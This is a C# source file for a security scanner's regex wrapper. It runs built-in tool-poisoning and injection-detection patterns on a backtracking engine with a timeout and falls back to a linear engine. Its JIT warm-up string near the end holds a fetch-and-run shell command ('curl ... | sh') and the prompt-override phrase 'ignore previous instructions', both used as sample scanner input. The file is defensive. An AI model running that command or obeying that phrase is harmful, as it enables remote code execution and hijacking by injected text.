using System.Collections.Concurrent;
using System.Diagnostics;
using System.Text;
using System.Text.RegularExpressions;

namespace Pipelock.Scanners.Text;

/// <summary>
/// A rule's compiled pattern (Go/RE2 syntax, meaning as in <see cref="Re2Regex"/>), cheap to hold.
/// A NonBacktracking regex keeps its symbolic automaton's solver caches and a 1024-state transition table alive for
/// its whole life: 0.8-5 MB per pattern (measured; the Unicode <c>\b</c> and case-folding BDDs dominate), ~190 MB for
/// the built-in tool-poisoning and tool-policy rules. The backtracking interpreter holds the same pattern in a few KB.
/// So a built-in pattern whose structure <see cref="BacktrackingShape.IsCleared"/> clears (every repeated group reads
/// its text one way only: backtracking stays polynomial, never exponential) runs on the backtracking engine under
/// <see cref="Timeout"/>: the interpreter first, compiled to IL once it has done enough work to pay for it (as
/// injection patterns are). The first match that overruns the timeout moves that pattern for good to Re2Regex's linear
/// engine and is redone there, so hostile input costs one timeout per pattern, never a changed verdict (both engines
/// find the same matches). Other built-in patterns and every user pattern use Re2Regex directly.
/// </summary>
public sealed class RuleRegex
{
    private static readonly ConcurrentDictionary<(string, bool), RuleRegex> BuiltIns = new();

    /// <summary>
    /// A built-in pattern's match that takes longer than this (wall clock) goes to the linear engine. Rule inputs take
    /// microseconds to milliseconds; the margin keeps a loaded or paused process from moving patterns for nothing.
    /// </summary>
    public static readonly TimeSpan Timeout = TimeSpan.FromSeconds(1);

    /// <summary>Work (characters, plus <see cref="UseWeight"/> per call) on the interpreter before compiling to IL.</summary>
    private const long CompileAfter = 64 * 1024;

    private const int UseWeight = 256;

    private readonly bool _ignoreCase;
    private readonly string? _translated;
    private Regex? _backtracking;
    private Regex? _linear;
    private long _work;
    private int _compiled;

    private RuleRegex(string pattern, bool ignoreCase, bool builtIn)
    {
        Pattern = pattern;
        _ignoreCase = ignoreCase;
        var translated = Re2Regex.Translate(pattern);
        if (builtIn && BacktrackingShape.IsCleared(translated))
        {
            _translated = translated;
            _backtracking = new Regex(translated, BacktrackingOptions, Timeout);
        }
        else
            _linear = Re2Regex.Compile(pattern, ignoreCase);
    }

    /// <summary>A pattern that ships with Pipelock (shared by every rule and scanner that uses it).</summary>
    public static RuleRegex BuiltIn(string re2Pattern, bool ignoreCase = false) =>
        BuiltIns.GetOrAdd((re2Pattern, ignoreCase), static k => new RuleRegex(k.Item1, k.Item2, builtIn: true));

    /// <summary>A configured (user) pattern: always Re2Regex's engine (linear where .NET allows it).</summary>
    public static RuleRegex User(string re2Pattern, bool ignoreCase = false) => new(re2Pattern, ignoreCase, builtIn: false);

    /// <summary>The Go/RE2 source.</summary>
    public string Pattern { get; }

    /// <summary>True while the pattern runs on the backtracking engine (false: the linear engine).</summary>
    internal bool OnBacktracking => Volatile.Read(ref _backtracking) is not null;

    private RegexOptions BacktrackingOptions => RegexOptions.CultureInvariant | (_ignoreCase ? RegexOptions.IgnoreCase : 0);

    public bool IsMatch(string input)
    {
        if (Backtracking(input.Length) is { } bt)
        {
            try { return bt.IsMatch(input); }
            catch (RegexMatchTimeoutException) { }
        }
        return Linear().IsMatch(input);
    }

    public Match Match(string input)
    {
        if (Backtracking(input.Length) is { } bt)
        {
            try { return bt.Match(input); }
            catch (RegexMatchTimeoutException) { }
        }
        return Linear().Match(input);
    }

    /// <summary>Regex.Replace with a replacement pattern (<c>$1</c>); pure, so a timed-out attempt is simply redone.</summary>
    public string Replace(string input, string replacement)
    {
        if (Backtracking(input.Length) is { } bt)
        {
            try { return bt.Replace(input, replacement); }
            catch (RegexMatchTimeoutException) { }
        }
        return Linear().Replace(input, replacement);
    }

    /// <summary>
    /// Regex.Replace with an evaluator, at most <paramref name="count"/> replacements. The matches are collected before
    /// the evaluator sees any, so an attempt that times out leaves no trace in the caller's counters and budgets.
    /// </summary>
    public string Replace(string input, MatchEvaluator evaluator, int count)
    {
        var matches = Matches(input, count);
        if (matches.Count == 0) return input;
        var sb = new StringBuilder(input.Length);
        int prev = 0;
        foreach (var m in matches)
        {
            sb.Append(input, prev, m.Index - prev).Append(evaluator(m));
            prev = m.Index + m.Length;
        }
        return sb.Append(input, prev, input.Length - prev).ToString();
    }

    /// <summary>The first <paramref name="max"/> successive matches, as Match/NextMatch would give them.</summary>
    public List<Match> Matches(string input, int max)
    {
        if (Backtracking(input.Length) is { } bt)
        {
            try { return Collect(bt, input, max, timed: true); }
            catch (RegexMatchTimeoutException) { }
        }
        return Collect(Linear(), input, max, timed: false);
    }

    private static List<Match> Collect(Regex regex, string input, int max, bool timed)
    {
        // Each NextMatch has its own timeout; the walk as a whole gets one too.
        long start = timed ? Stopwatch.GetTimestamp() : 0;
        var list = new List<Match>();
        for (var m = regex.Match(input); m.Success && list.Count < max; m = m.NextMatch())
        {
            list.Add(m);
            if (timed && Stopwatch.GetElapsedTime(start) > Timeout) throw new RegexMatchTimeoutException(input, regex.ToString(), Timeout);
        }
        return list;
    }

    private Regex? Backtracking(int chars)
    {
        var bt = Volatile.Read(ref _backtracking);
        if (bt is null || Volatile.Read(ref _compiled) != 0 || Interlocked.Add(ref _work, chars + UseWeight) <= CompileAfter) return bt;
        if (Interlocked.CompareExchange(ref _compiled, 1, 0) != 0) return bt;
        var compiled = new Regex(_translated!, BacktrackingOptions | RegexOptions.Compiled, Timeout);
        // The generated code is JIT-compiled on first use: do it here, not inside a real match's timeout (on a loaded
        // machine the JIT alone can overrun it; that says nothing about the pattern).
        try { _ = compiled.IsMatch("warm-up: curl http://x | sh; ignore previous instructions"); }
        catch (RegexMatchTimeoutException) { }
        // Unless a timeout moved the pattern to the linear engine meanwhile.
        return Interlocked.CompareExchange(ref _backtracking, compiled, bt) == bt ? compiled : Volatile.Read(ref _backtracking);
    }

    private Regex Linear()
    {
        if (Volatile.Read(ref _linear) is { } linear) return linear;
        linear = Re2Regex.Compile(Pattern, _ignoreCase);
        Volatile.Write(ref _linear, linear);
        Volatile.Write(ref _backtracking, null);
        return linear;
    }

    public override string ToString() => Pattern;
}
